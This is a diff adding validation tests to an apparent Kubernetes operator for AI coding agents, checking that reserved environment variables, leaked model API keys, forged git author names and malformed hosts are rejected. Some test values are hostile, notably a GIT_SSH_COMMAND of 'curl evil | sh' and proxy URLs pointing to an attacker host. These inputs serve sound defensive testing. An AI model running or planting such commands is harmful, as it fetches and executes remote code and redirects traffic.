@@ -303,6 +303,87 @@ var _ = Describe("Invalid objects are refused with a message that says what to f
 			},
 			want: `spec.agent.credentials[0].envName: Invalid value: "1BAD": spec.agent.credentials[0].envName in body should match '^[A-Za-z_][A-Za-z0-9_]*$'`,
 		}),
+		Entry("a reserved name in the agent's environment", invalid{
+			obj: func(ns string) client.Object {
+				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
+					s.Agent.Env = []agentsv1alpha1.EnvVar{{Name: "SHEPHERD_MANAGER_URL", Value: "http://evil"}}
+				}).Obj()
+			},
+			want: `spec.agent.env[0]: Invalid value: env name is reserved: SHEPHERD_*, GIT_*, HOME and the proxy variables (HTTP_PROXY, HTTPS_PROXY, NO_PROXY, ALL_PROXY) are set by Shepherd; set the git identity with agent.gitAuthor and allowed hosts with spec.network.egress.hosts`,
+		}),
+		Entry("a git variable in the agent's environment (GIT_SSH_COMMAND, GIT_CONFIG_*: they redirect git)", invalid{
+			obj: func(ns string) client.Object {
+				return MakeSession("s", ns, "p").Prompt("x").With(func(s *agentsv1alpha1.AgentSessionSpec) {
+					s.Agent = &agentsv1alpha1.AgentSpec{Env: []agentsv1alpha1.EnvVar{{Name: "GIT_SSH_COMMAND", Value: "curl evil | sh"}}}
+				}).Obj()
+			},
+			want: `spec.agent.env[0]: Invalid value: env name is reserved: SHEPHERD_*, GIT_*, HOME and the proxy variables (HTTP_PROXY, HTTPS_PROXY, NO_PROXY, ALL_PROXY) are set by Shepherd; set the git identity with agent.gitAuthor and allowed hosts with spec.network.egress.hosts`,
+		}),
+		Entry("a proxy variable in lower case", invalid{
+			obj: func(ns string) client.Object {
+				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
+					s.Agent.Env = []agentsv1alpha1.EnvVar{{Name: "https_proxy", Value: "http://evil:3128"}}
+				}).Obj()
+			},
+			want: `spec.agent.env[0]: Invalid value: env name is reserved: SHEPHERD_*, GIT_*, HOME and the proxy variables (HTTP_PROXY, HTTPS_PROXY, NO_PROXY, ALL_PROXY) are set by Shepherd; set the git identity with agent.gitAuthor and allowed hosts with spec.network.egress.hosts`,
+		}),
+		Entry("HOME as an agent credential", invalid{
+			obj: func(ns string) client.Object {
+				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
+					s.Agent.Credentials = []agentsv1alpha1.AgentCredential{{EnvName: "HOME", SecretRef: agentsv1alpha1.SecretKeyRef{Name: "k", Key: "v"}}}
+				}).Obj()
+			},
+			want: `spec.agent.credentials[0]: Invalid value: credential envName is reserved: SHEPHERD_*, GIT_*, HOME and the proxy variables are set by Shepherd`,
+		}),
+		Entry("a model API key in the agent's environment", invalid{
+			obj: func(ns string) client.Object {
+				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
+					s.Agent.Credentials = []agentsv1alpha1.AgentCredential{{EnvName: "ANTHROPIC_API_KEY", SecretRef: agentsv1alpha1.SecretKeyRef{Name: "k", Key: "v"}}}
+				}).Obj()
+			},
+			want: `spec.agent.credentials[0]: Invalid value: a model API key must not be in the agent's environment, where a steered agent can read it: reference it from agent.modelAPI.keySecretRef and the runner's model proxy adds it to each request`,
+		}),
+		Entry("an unknown model API", invalid{
+			obj: func(ns string) client.Object {
+				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
+					s.Agent.ModelAPI = &agentsv1alpha1.ModelAPISpec{API: "Gopher"}
+				}).Obj()
+			},
+			want: `[spec.agent.modelAPI.api: Unsupported value: "Gopher": supported values: "Anthropic", "OpenAI", <nil>: Invalid value: null: some validation rules were not checked because the object was invalid; correct the existing errors to complete validation]`,
+		}),
+		Entry("a model request budget of zero", invalid{
+			obj: func(ns string) client.Object {
+				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
+					zero := int64(0)
+					s.Agent.ModelAPI = &agentsv1alpha1.ModelAPISpec{API: agentsv1alpha1.ModelAPIAnthropic, Limits: &agentsv1alpha1.ModelLimits{MaxRequests: &zero}}
+				}).Obj()
+			},
+			want: `spec.agent.modelAPI.limits.maxRequests: Invalid value: 0: spec.agent.modelAPI.limits.maxRequests in body should be greater than or equal to 1`,
+		}),
+		Entry("a git author name that forges another header", invalid{
+			obj: func(ns string) client.Object {
+				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
+					s.Agent.GitAuthor = &agentsv1alpha1.GitAuthor{Name: "Bot <root@example.com>", Email: "bot@example.com"}
+				}).Obj()
+			},
+			want: `spec.agent.gitAuthor.name: Invalid value: "Bot <root@example.com>": gitAuthor.name must not contain '<', '>' or control characters`,
+		}),
+		Entry("an egress host that is not a host name", invalid{
+			obj: func(ns string) client.Object {
+				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
+					s.Network = &agentsv1alpha1.NetworkSpec{Egress: &agentsv1alpha1.EgressSpec{Hosts: []string{"https://registry.npmjs.org/"}}}
+				}).Obj()
+			},
+			want: `spec.network.egress.hosts[0]: Invalid value: "https://registry.npmjs.org/": spec.network.egress.hosts[0] in body should match '^(\*\.)?[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*(:[0-9]{1,5})?$'`,
+		}),
+		Entry("a runtime class that is not a DNS name", invalid{
+			obj: func(ns string) client.Object {
+				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
+					s.Scheduling = &agentsv1alpha1.SchedulingSpec{RuntimeClassName: "gVisor"}
+				}).Obj()
+			},
+			want: `spec.scheduling.runtimeClassName: Invalid value: "gVisor": spec.scheduling.runtimeClassName in body should match '^[a-z0-9]([-a-z0-9.]*[a-z0-9])?$'`,
+		}),
 		Entry("SendToAgent on exited", invalid{
 			obj: func(ns string) client.Object {
 				return MakeProject("p", ns).Reaction(agentsv1alpha1.TriggerExited, agentsv1alpha1.Reaction{Action: agentsv1alpha1.ReactionSendToAgent}).Obj()
